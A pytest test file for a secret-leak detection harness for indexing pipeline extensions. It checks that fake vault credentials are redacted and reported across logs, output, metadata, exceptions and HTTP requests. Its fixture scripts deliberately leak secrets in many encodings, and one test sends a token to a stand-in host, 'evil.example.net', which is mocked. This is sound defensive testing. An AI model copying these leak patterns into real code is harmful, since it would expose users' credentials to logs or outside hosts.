"""Redaction applied everywhere, and leak findings on every channel, through the public surface:
``harness.run_extension``/``Runner``, ``ipe run`` (with and without ``--json``) and ``ipe check``."""

from __future__ import annotations

import base64
import html
import json
import re
import urllib.parse

import pytest

import harness
from harness.canary import CanaryVault
from harness.check import check_extension
from harness.cli import main
from tests.conftest import SAMPLE_DOCUMENT

# Values chosen to make encodings differ from the plain text: spaces, quotes, a slash, a
# backslash, non-ASCII, and a length that is not a multiple of 3 (base64 alignment).
SECRET = "fake pa$$/wörd \"q\" \\x"
TOKEN = "fake-token-0a1b2c3d4e"
VAULT = {"pim_password": SECRET, "api_token": TOKEN}


def aliases(value: str) -> dict[str, str]:
    """Encodings a script could let a value out in; none may appear in any output."""
    raw = value.encode()
    forms = {
        "plain": value,
        "repr": repr(value)[1:-1],
        "repr-bytes": repr(raw)[2:-1],
        "json": json.dumps(value, ensure_ascii=False)[1:-1],
        "json-ascii": json.dumps(value)[1:-1],
        "url": urllib.parse.quote(value, safe=""),
        "form": urllib.parse.quote_plus(value),
        "hex": raw.hex(),
        "HEX": raw.hex().upper(),
        "html": html.escape(value),
        "base64": base64.b64encode(raw).decode(),
        "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
    }
    return forms


LEAKY = r'''
import base64, json, logging, urllib.parse
pw, token = vault_parameters["pim_password"], vault_parameters["api_token"]
log("plain " + pw)
log("repr " + repr({"pw": pw}), "Warning")
log("json " + json.dumps({"pw": pw}))
print("url", urllib.parse.quote(pw, safe=""), urllib.parse.quote_plus(pw))
print("hex", pw.encode().hex(), pw.encode().hex().upper(), file=__import__("sys").stderr)
print("basic", base64.b64encode(("user:" + pw).encode()).decode())
print("b64 newline", base64.b64encode((pw + "\n").encode()).decode())
print("split", token[:5], end="")
print(token[5:])
logging.getLogger("pim.client").warning("GET /items?token=%s", urllib.parse.quote(token))
document.add_meta_data({"debug": [pw, {"nested": token}.__repr__()], "number": 1})
body = document.DataStream("body_text")
body.write("secret in text " + pw)
document.add_data_stream(body)
html_stream = document.DataStream("body_html")
html_stream.write("<p>" + __import__("html").escape(pw) + "</p>")
document.add_data_stream(html_stream)
document.add_allowed(pw, "User", "Email")
if parameters.get("fail"):
    try:
        raise KeyError(token)
    except KeyError as first:
        raise RuntimeError("call failed for https://api.example.com/?token=" + token) from first
'''


def visible_aliases(text: str) -> list[str]:
    found = []
    for key, value in VAULT.items():
        for name, form in aliases(value).items():
            if len(form) >= 6 and form in text:
                found.append(f"{key}/{name}")
    return found


@pytest.fixture
def leaky(make_extension):
    return make_extension(LEAKY, name="leaky", manifest={"apiVersion": "v2"}, documents={"doc.json": SAMPLE_DOCUMENT})


def test_every_output_of_a_run_is_redacted(leaky):
    for fail in ("", "yes"):
        result = harness.run_extension(leaky, SAMPLE_DOCUMENT, vault=VAULT, parameters={"fail": fail})
        text = json.dumps(result.to_json(), ensure_ascii=False)
        streams = b"".join(s.content for s in result.document.data_streams)
        everything = text + streams.decode("utf-16-le", "replace") + streams.decode("utf-8", "replace") + repr(result)
        assert visible_aliases(everything) == []
        assert "[REDACTED:pim_password]" in text


def test_ipe_run_output_is_redacted_with_and_without_json(leaky, capsys, monkeypatch):
    for key, value in VAULT.items():
        monkeypatch.setenv(f"VAULT_{key}", value)
    for argv in (["run", str(leaky)], ["run", str(leaky), "--json"], ["run", str(leaky), "-p", "fail=1"],
                 ["run", str(leaky), "-p", "fail=1", "--json"]):
        code = main(argv)
        out, err = capsys.readouterr()
        assert code in (0, 1)
        assert visible_aliases(out + err) == [], argv
        assert "REDACTED:" in out


def test_leaks_are_reported_on_every_channel_with_key_alias_and_place(leaky):
    result = harness.run_extension(leaky, SAMPLE_DOCUMENT, vault=VAULT)
    seen = {(leak.key, leak.channel, leak.alias.split("(")[0]) for leak in result.leaks}
    expected = {
        ("pim_password", "log", "plain"),
        ("pim_password", "log", "repr"),
        ("pim_password", "log", "json-ascii"),  # json.dumps escapes ö as \u00f6 by default
        ("pim_password", "stdout", "url"),
        ("pim_password", "stdout", "form"),
        ("pim_password", "stdout", "base64"),
        ("api_token", "stdout", "plain"),  # split across two print() calls
        ("pim_password", "stderr", "hex"),
        ("api_token", "logging", "plain"),  # the token is URL-safe: quote() leaves it as is
        ("pim_password", "metadata", "plain"),
        ("api_token", "metadata", "plain"),
        ("pim_password", "data_stream", "utf-16-le"),
        ("pim_password", "data_stream", "html"),
        ("pim_password", "permissions", "plain"),
    }
    assert expected <= seen, expected - seen
    places = {leak.place for leak in result.leaks}
    assert {"log entry 1", "log entry 2", "stdout line 4", "data stream body_text"} <= places
    assert any(p.startswith("metadata debug") for p in places)
    assert any(p.startswith("permissions$") or p.startswith("permissions[") for p in places)
    assert all(VAULT["pim_password"] not in str(leak) and TOKEN not in str(leak) for leak in result.leaks)


def test_exceptions_and_chained_tracebacks_are_findings(leaky):
    result = harness.run_extension(leaky, SAMPLE_DOCUMENT, vault=VAULT, parameters={"fail": "1"})
    assert result.status == "EXECUTION_ERROR"
    assert "KeyError: '[REDACTED:api_token]'" in result.reason  # the chained cause, masked
    exception = [leak for leak in result.leaks if leak.channel == "exception"]
    assert {leak.key for leak in exception} == {"api_token"}
    # Changes are discarded on EXECUTION_ERROR, as in Coveo: they are not indexed, so not leaks.
    assert not [leak for leak in result.leaks if leak.channel in ("metadata", "data_stream", "permissions")]


def test_reject_reason_is_a_channel(make_extension):
    folder = make_extension('document.reject("no access with " + vault_parameters["api_token"])')
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT)
    assert result.status == "REJECTED"
    assert result.reason == "no access with [REDACTED:api_token]"
    assert [(leak.channel, leak.place) for leak in result.leaks] == [("reason", "rejected reason")]


HTTP_SCRIPT = '''
import requests
token = vault_parameters["api_token"]
base = parameters.get("base", "https://pim.example.com")
requests.get(base + "/items", headers={"Authorization": "Bearer " + token}, timeout=2)
if parameters.get("in_url"):
    requests.get(base + "/items/" + token + "?q=1#" + token, timeout=2)
'''


def test_a_token_in_an_https_header_is_clean(make_extension, requests_mock):
    requests_mock.get("https://pim.example.com/items", json={})
    folder = make_extension(HTTP_SCRIPT)
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT)
    assert result.status == "SUCCESS", result.reason
    assert result.leaks == []
    assert result.requests[0].headers["Authorization"] == "Bearer [REDACTED:api_token]"


def test_a_value_in_a_url_is_found_with_its_part(make_extension, requests_mock):
    requests_mock.get(re.compile("https://pim.example.com/.*"), json={})
    folder = make_extension(HTTP_SCRIPT)
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT, parameters={"in_url": "1"})
    parts = sorted(leak.place.split(" of ")[0] for leak in result.leaks if leak.channel == "url")
    assert parts == ["fragment", "path"]
    assert TOKEN not in json.dumps(result.to_json())


def test_anything_over_plain_http_is_a_finding(make_extension, requests_mock):
    requests_mock.get("http://pim.example.com/items", json={})
    folder = make_extension(HTTP_SCRIPT)
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT, parameters={"base": "http://pim.example.com"})
    assert [(l.channel, l.place) for l in result.leaks] == [
        ("plain_http", "header Authorization of request 1 (GET http://pim.example.com/items)")
    ]


def test_a_value_sent_to_a_host_its_entry_does_not_allow(make_extension, requests_mock):
    requests_mock.get("https://evil.example.net/items", json={})
    requests_mock.get("https://pim.example.com/items", json={})
    folder = make_extension(HTTP_SCRIPT, manifest={"allowedHosts": {"api_token": ["*.example.com"]}})
    ok = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT)
    assert ok.leaks == []
    bad = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT, parameters={"base": "https://evil.example.net"})
    assert [(l.key, l.channel) for l in bad.leaks] == [("api_token", "host")]
    assert "host not in allowedHosts" in bad.leaks[0].place


def test_canary_mode_mints_values_for_every_key_read(make_extension):
    folder = make_extension('k = "dyn" + "amic"\nlog(vault_parameters[k])\nlog(str(len(vault_parameters["known"])))\n')
    runner = harness.Runner(folder, vault="canary")
    assert isinstance(runner.vault, CanaryVault)
    result = runner.run(SAMPLE_DOCUMENT)
    assert result.status == "SUCCESS"
    assert result.logs[0].comment == "[REDACTED:dynamic]"
    assert result.logs[1].comment == "36"
    assert [(l.key, l.channel) for l in result.leaks] == [("dynamic", "log")]
    assert sorted(runner.vault.values_for(None)) == ["dynamic", "known"]


def test_short_values_are_warned_about_not_masked(make_extension):
    folder = make_extension('log("pin is " + vault_parameters["pin"])')
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault={"pin": "4242"})
    assert result.logs[0].comment == "pin is 4242"
    assert any("'pin'" in w and "too short" in w for w in result.warnings)


def test_ipe_check_reports_runs_and_static_flows_and_never_a_value(leaky, capsys):
    assert main(["check", str(leaky)]) == 3
    out, err = capsys.readouterr()
    assert "pim_password" in out and "log entry 1" in out
    assert not re.search(r"cnry[0-9a-f]{32}", out + err)
    assert main(["check", str(leaky), "--json"]) == 3
    payload = json.loads(capsys.readouterr().out)
    [report] = payload
    assert report["clean"] is False
    assert {f["channel"] for f in report["static"]} >= {"log", "stdout", "metadata", "data_stream", "permissions"}
    assert not re.search(r"cnry[0-9a-f]{32}", json.dumps(payload))


def test_ipe_check_is_offline_and_goes_on_after_failures(make_extension, capsys):
    folder = make_extension(
        'import requests\nr = requests.get("https://pim.example.com/x", auth=("u", vault_parameters["pw"]), timeout=2)\n'
        'log(str(r.status_code))\nraise SystemExit(1)\n',
        documents={"a.json": SAMPLE_DOCUMENT, "b.json": SAMPLE_DOCUMENT},
    )
    report = check_extension(folder)
    assert [r.status for r in report.results] == ["EXECUTION_ERROR", "EXECUTION_ERROR"]
    assert [r.logs[0].comment for r in report.results] == ["200", "200"]  # the empty offline answer
    assert report.clean
    assert main(["check", str(folder)]) == 0


def test_ipe_run_fail_on_leak(leaky, monkeypatch, capsys):
    for key, value in VAULT.items():
        monkeypatch.setenv(f"VAULT_{key}", value)
    assert main(["run", str(leaky), "--fail-on-leak"]) == 3
    assert "leaks (" in capsys.readouterr().out
    assert main(["run", str(leaky)]) == 0


# One script line per alias family: each must be found, named by its family, and masked.
FAMILY_SCRIPTS = {
    "plain": "log(pw)",
    "stripped": "log(pw.strip())",
    "line": "log(pw.splitlines()[1])",
    "json": "import json; log(json.dumps(pw, ensure_ascii=False))",
    "json-ascii": "import json; log(json.dumps(pw))",
    "repr": "log(repr({'p': pw}))",
    "repr-bytes": "log(repr(pw.encode()))",
    "html": "import html; log(html.escape(pw))",
    "url": "import urllib.parse; log(urllib.parse.quote(pw, safe=''))",
    "form": "import urllib.parse; log(urllib.parse.urlencode({'p': pw}))",
    "base64": "import base64; log(base64.b64encode(('user:' + pw).encode()).decode())",
    "base64url": "import base64; log(base64.urlsafe_b64encode(pw.encode() + b'!').decode())",
    "hex": "log(pw.encode().hex().upper())",
}
FAMILY_VALUE = "  fake <first> \"line\" é&'x\nfake second line/+???~~~  "


@pytest.mark.parametrize("family", sorted(FAMILY_SCRIPTS))
def test_a_finding_names_each_alias_family(make_extension, family):
    folder = make_extension(f"pw = vault_parameters['multi']\n{FAMILY_SCRIPTS[family]}\n")
    result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault={"multi": FAMILY_VALUE})
    assert result.status == "SUCCESS", result.reason
    families = {leak.alias.split("(")[0] for leak in result.leaks if leak.channel == "log"}
    assert family in families, families
    comment = result.logs[0].comment
    assert "[REDACTED:multi]" in comment
    for line in FAMILY_VALUE.strip().splitlines():
        assert line.strip() not in comment


def test_urllib3_debug_lines_are_masked_and_found(make_extension):
    """urllib3 logs the request line with the query in a separate %-argument."""
    import http.server

    from tests.conftest import loopback_server

    class Ok(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    folder = make_extension(
        "import logging, requests\n"
        "logging.getLogger('urllib3').setLevel(logging.DEBUG)\n"
        "requests.get(parameters['base'] + '/items', params={'key': vault_parameters['api_token']}, timeout=5)\n"
        "logging.getLogger('urllib3').setLevel(logging.NOTSET)\n"
    )
    with loopback_server(Ok) as base:
        result = harness.run_extension(folder, SAMPLE_DOCUMENT, vault=VAULT, parameters={"base": base})
    assert result.status == "SUCCESS", result.reason
    records = [r for r in result.logging if r.logger.startswith("urllib3")]
    assert any("/items?key=[REDACTED:api_token]" in r.message for r in records), records
    assert TOKEN not in json.dumps(result.to_json())
    assert {(l.channel, l.key) for l in result.leaks} >= {("logging", "api_token"), ("url", "api_token"), ("plain_http", "api_token")}
